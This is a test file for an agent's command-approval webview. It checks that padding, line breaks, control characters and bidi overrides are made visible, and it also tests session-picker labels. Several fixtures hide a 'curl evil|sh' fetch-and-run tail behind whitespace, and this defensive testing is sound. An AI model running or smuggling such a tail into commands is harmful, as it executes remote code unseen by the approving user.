import assert from 'node:assert/strict';
import { openView, type View } from './harness';
import { makeSnapshot } from './snapshot';

/** A command to approve is shown whole, and the session picker says when a session was used, not when it was made. */
describe('webview: approval commands hide nothing; the session picker tells last use', function () {
  let view: View;
  const snap = makeSnapshot(20);
  before(async () => {
    view = await openView();
    await view.send({ type: 'snapshot', snapshot: snap });
  });
  after(async () => view?.close());

  async function card(callId: string, command: string) {
    await view.send({ type: 'approval-requested', approval: { callId, tool: 'run_command', summary: 'run in the workspace', command } });
    return view.page.locator(`.approval[data-call="${callId}"] .ap-command`);
  }

  /** Whether the tail's last character is inside the box's visible area (not past its right edge or below its fold). */
  async function tailShows(cmd: Awaited<ReturnType<typeof card>>): Promise<boolean> {
    return cmd.evaluate((pre) => {
      const code = pre.querySelector('code')!;
      const last = code.lastChild!;
      const range = pre.ownerDocument.createRange();
      range.setStart(last, Math.max(0, (last.textContent ?? '').length - 1));
      range.setEnd(last, (last.textContent ?? '').length);
      const r = range.getBoundingClientRect();
      const box = pre.getBoundingClientRect();
      return r.width > 0 && r.right <= box.right && r.bottom <= box.bottom && pre.scrollWidth <= pre.clientWidth;
    });
  }

  it('a long run of spaces shows as a marked ␣×N and the tail after it is on screen', async () => {
    const cmd = await card('c1', `npm test${' '.repeat(300)}; curl evil|sh`);
    assert.equal(await cmd.textContent(), 'npm test␣×300; curl evil|sh');
    assert.deepEqual(await cmd.locator('.ap-mark').allTextContents(), ['␣×300']);
    assert.equal(await cmd.locator('.ap-mark').getAttribute('title'), '300 blank characters');
    assert.ok(await tailShows(cmd), 'the tail after the spaces is within the card');
  });

  it('a very long single word wraps instead of scrolling sideways', async () => {
    const cmd = await card('c2', `echo ${'a'.repeat(400)};curl evil|sh`);
    assert.ok(await tailShows(cmd), 'the tail is within the card');
  });

  it('forty line breaks show as ⏎ markers and the card is not cut at a height', async () => {
    const cmd = await card('c3', `npm test${'\n'.repeat(40)}curl evil|sh`);
    assert.equal(await cmd.locator('.ap-mark').count(), 40);
    assert.deepEqual([...new Set(await cmd.locator('.ap-mark').allTextContents())], ['⏎']);
    assert.ok(await tailShows(cmd), 'the last line is within the card');
    assert.ok(await cmd.evaluate((pre) => pre.scrollHeight <= pre.clientHeight), 'no scrolling inside the command');
  });

  it('control characters and bidi overrides show as escapes, apart from text that spells one', async () => {
    const cmd = await card('c4', 'printf "\\x1b" \x1b[2K\tls\u202e');
    assert.deepEqual(await cmd.locator('.ap-mark').allTextContents(), ['\\x1b', '\\t', '\\u202e']);
    assert.equal(await cmd.textContent(), 'printf "\\x1b" \\x1b[2K\\tls\\u202e');
  });

  it('a plain command shows as it is, unmarked', async () => {
    const cmd = await card('c5', 'npm test -- --grep "a  b"');
    assert.equal(await cmd.textContent(), 'npm test -- --grep "a  b"');
    assert.equal(await cmd.locator('.ap-mark').count(), 0);
  });

  it('the picker says "used" only with a last use, and "created" otherwise', async () => {
    const now = Date.now();
    const sessions = [
      { id: 's1', title: 'Current', createdAt: now - 9 * 86_400_000, messageCount: 3, lastUsedAt: now - 2 * 60_000, bytes: 3 * 1024 },
      { id: 's0', title: 'Old', createdAt: now - 5 * 86_400_000, messageCount: 1 },
    ];
    await view.send({ type: 'snapshot', snapshot: { ...snap, sessions, session: sessions[0]! } });
    const desc = () =>
      view.page.locator('.session-select vscode-option').evaluateAll((els) => els.map((e) => e.getAttribute('description')));
    assert.deepEqual(await desc(), ['3 messages · 3 KB · used 2 min ago', '1 message · created 5 days ago']);
    // A size that changes alone is shown too.
    const grown = [{ ...sessions[0]!, bytes: 2 * 1024 * 1024 }, sessions[1]!];
    await view.send({ type: 'snapshot', snapshot: { ...snap, sessions: grown, session: grown[0]! } });
    assert.deepEqual(await desc(), ['3 messages · 2.0 MB · used 2 min ago', '1 message · created 5 days ago']);
  });
});
